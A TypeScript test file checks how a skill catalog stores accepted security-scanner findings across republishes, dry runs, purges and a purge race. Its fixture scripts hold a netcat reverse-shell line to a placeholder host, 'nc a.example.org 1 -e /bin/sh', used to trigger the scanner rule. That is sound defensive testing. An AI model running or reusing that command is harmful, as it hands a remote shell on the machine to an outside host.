// Guards accepted scan errors in the catalog: they can also be accepted for a live version, are stored once for each
// rule and file, and are never stored after a purge, however the two interleave.

import { runInDurableObject } from 'cloudflare:test'
import { env } from 'cloudflare:workers'
import { expect, it } from 'vitest'
import type { Finding } from '../../src/skills/skill.ts'
import { changedBy, failure, openWorkspace, unlimited, unpaced, value } from './catalog-fixture.ts'
import type { TestWorkspace } from './catalog-fixture.ts'
import { seedBuild, skillFiles } from './seed-build.ts'
import { contentReader, isolateCache } from '../../src/skills/store/content-reader.ts'
import { skillStores } from '../../src/skills/store/content.ts'
import { publishFiles } from '../../src/skills/publish/publish.ts'

const SHELL = '#!/bin/sh\nnc a.example.org 1 -e /bin/sh\n'
const accept = [{ rule: 'shell-reverse-shell', reason: 'Taught here.' }]
const course = { name: 'course', files: { 'a.sh': SHELL } }
const further = { name: 'course', body: 'More.', files: { 'a.sh': SHELL } }

async function opened(name: string): Promise<TestWorkspace & { build: string }> {
  return { ...openWorkspace(name), build: await seedBuild(env, [{ name: 'alpha' }]) }
}

const acceptedOf = (findings: readonly Finding[]) => findings.flatMap(({ accepted }) => accepted ?? [])

async function keptOf({ catalog }: TestWorkspace): Promise<unknown> {
  return value(await catalog.versions('course')).map(({ findings }) => acceptedOf(findings))
}

it('an accepted error is stored for bytes that are already live, without a catalog version, and never by a dry run', async () => {
  const workspace = await opened('accepted-1')
  const { build, publish, stub } = workspace
  const first = value(await publish(build, course, { accept }))
  // As if an earlier release without this rule had published it.
  await runInDurableObject(
    stub,
    (_, { storage }) => void storage.sql.exec("UPDATE versions SET findings = '[]'"),
  )
  expect(failure(await publish(build, course)).code).toBe('invalid_skill')
  value(await publish(build, course, { accept, dryRun: true }))
  expect(await keptOf(workspace)).toEqual([[]])

  const again = value(await publish(build, course, { accept, author: 'ada' }))
  expect(again).toMatchObject({ created: false, catalog_version: first.catalog_version })
  const by = { author: 'ada', reason: 'Taught here.', at: expect.any(String) }
  expect(await keptOf(workspace)).toMatchObject([[by]])
  expect(value(await publish(build, course)).created).toBe(false)
  value(await publish(build, further))
  expect(await keptOf(workspace)).toMatchObject([[by], [by]])
})

it('an accepted error is dropped when it is purged between the request and the change', async () => {
  const workspace = await opened('accepted-2')
  const { build, publish, catalog } = workspace
  const { digest } = value(await publish(build, course, { accept })).skill
  value(await publish(build, { name: 'course' }))
  let purges = 0
  const racing = changedBy(catalog, async (request) => {
    if (purges++ === 0) value(await catalog.purge({ name: 'course', digest }, null, 'ann'))
    return catalog.change(request)
  })
  const stores = skillStores(env)
  const content = contentReader(stores, 'accepted-2', isolateCache())
  const request = { files: skillFiles(further), note: null, author: 'ann', build, dryRun: false }
  const deps = {
    workspace: 'accepted-2',
    stores,
    content,
    catalog: racing,
    pace: unpaced(),
    ...unlimited,
  }
  const lost = failure(await publishFiles(request, deps))
  expect(lost).toMatchObject({
    code: 'overloaded',
    retryAfterS: 1,
    detail: expect.stringContaining('purged'),
  })
  expect(purges).toBe(1)
  // If it is sent again, it must be accepted anew.
  expect(failure(await publishFiles(request, deps)).code).toBe('invalid_skill')
  expect(await keptOf(workspace)).toEqual([[], []])
})

it('an accepted error is stored once for a rule and a file: the other findings are warnings without it', async () => {
  const { build, publish } = await opened('accepted-3')
  const lines = '#!/bin/sh\n' + 'nc a.example.org 1 -e /bin/sh\n'.repeat(5)
  const noisy = { name: 'course', files: { 'a.sh': lines, 'b.sh': lines } }
  const { findings } = value(await publish(build, noisy, { accept }))
  const found = findings.filter(({ rule }) => rule === 'shell-reverse-shell')
  expect(found.length).toBeGreaterThan(4)
  expect(new Set(found.map(({ severity }) => severity))).toEqual(new Set(['warning']))
  expect(found.flatMap(({ file, accepted }) => (accepted ? [file] : []))).toEqual(['a.sh', 'b.sh'])
  expect(value(await publish(build, { ...noisy, body: 'More.' })).created).toBe(true)
})
